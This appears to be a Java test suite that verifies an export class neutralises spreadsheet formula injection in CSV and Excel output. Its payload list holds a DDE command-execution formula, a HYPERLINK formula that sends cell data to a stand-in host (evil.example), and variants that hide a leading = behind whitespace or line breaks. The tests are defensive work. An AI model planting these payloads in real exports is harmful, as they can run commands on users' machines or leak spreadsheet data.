package io.renloop.platform;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.assertj.core.api.Assertions.assertThat;

import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Security finding "formula injection survives the CSV export when the cell has a line break": every export goes
 * through {@link SpreadsheetFiles}, and no cell of its CSV or Excel files can start like a formula, however the
 * payload hides its {@code =} behind white space or line breaks.
 */
class CsvFormulaInjectionTests {

	/**
	 * What a spreadsheet program may run: a tab or carriage return first, or =, +, - or @ after white space. Written
	 * independently of the production rule, so that the two check each other.
	 */
	private static final Pattern RUNNABLE = Pattern.compile("^(?:[\\t\\r]|[\\s\\u00A0\\u3000]*[=+\\-@])", Pattern.DOTALL);

	static List<String> payloads() {
		return List.of("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1",
				"\r\n=1+1", "=1\n2", "a\n=HYPERLINK(\"http://evil.example\",\"x\")", "\u3000=1", "\u00A0@SUM(A1)",
				"=HYPERLINK(\"http://evil.example?\"&A1,\"Error\")", "\"\n=1\"", "'=1", "-", "=", "\tplain");
	}

	static List<String> harmless() {
		return List.of("张三", "a=b", "1+1", "O'Brien", "", "e-mail@example.com", "  indented");
	}

	@Test
	void noOtherCodeWritesCsvOrExcelFiles() {
		noClasses().that()
			.doNotHaveFullyQualifiedName(SpreadsheetFiles.class.getName())
			.should()
			.dependOnClassesThat()
			.haveFullyQualifiedName(CSVPrinter.class.getName())
			.orShould()
			.dependOnClassesThat()
			.haveFullyQualifiedName(SXSSFWorkbook.class.getName())
			.orShould()
			.dependOnClassesThat()
			.haveFullyQualifiedName(XSSFWorkbook.class.getName())
			.because("every export goes through the one writer that neutralises formulas")
			.check(new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
				.importPackages("io.renloop"));
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void noCsvCellStartsLikeAFormula(String payload) throws IOException {
		List<String> cells = csvCells(SpreadsheetFiles.csv(List.of("name"), List.of(List.of(payload))));

		assertThat(cells).hasSize(2);
		assertThat(cells).noneMatch(cell -> RUNNABLE.matcher(cell).find());
		assertThat(cells.get(1)).as("the payload, whole, behind at most one apostrophe").isIn(payload, "'" + payload);
		if (runnable(payload)) {
			assertThat(cells.get(1)).isEqualTo("'" + payload);
		}
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void noExcelCellStartsLikeAFormula(String payload) throws IOException {
		List<Cell> cells = workbookCells(SpreadsheetFiles.xlsx("sheet", List.of("name"), List.of(List.of(payload))));

		assertThat(cells).hasSize(2);
		assertThat(cells).allMatch(cell -> cell.getCellType() == CellType.STRING);
		assertThat(cells).noneMatch(cell -> RUNNABLE.matcher(cell.getStringCellValue()).find());
	}

	@ParameterizedTest
	@MethodSource("payloads")
	void headersAreNeutralisedToo(String payload) throws IOException {
		assertThat(csvCells(SpreadsheetFiles.csv(List.of(payload), List.of())).get(0)).doesNotMatch(RUNNABLE);
	}

	@ParameterizedTest
	@MethodSource("harmless")
	void harmlessTextIsWrittenUnchanged(String text) throws IOException {
		assertThat(csvCells(SpreadsheetFiles.csv(List.of("name"), List.of(List.of(text)))).get(1)).isEqualTo(text);
	}

	@ParameterizedTest
	@MethodSource({ "payloads", "harmless" })
	void importersGetBackWhatWasExported(String value) {
		assertThat(SpreadsheetCells.restored(SpreadsheetCells.neutralised(value))).isEqualTo(value);
	}

	private static boolean runnable(String value) {
		return RUNNABLE.matcher(value).find();
	}

	private static List<String> csvCells(byte[] csv) throws IOException {
		String text = new String(csv, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFF");
		List<String> cells = new ArrayList<>();
		for (CSVRecord record : CSVFormat.DEFAULT.parse(new StringReader(text.substring(1)))) {
			cells.addAll(record.toList());
		}
		return cells;
	}

	private static List<Cell> workbookCells(byte[] xlsx) throws IOException {
		try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(xlsx))) {
			List<Cell> cells = new ArrayList<>();
			for (Row row : workbook.getSheetAt(0)) {
				row.forEach(cells::add);
			}
			return cells;
		}
	}
}
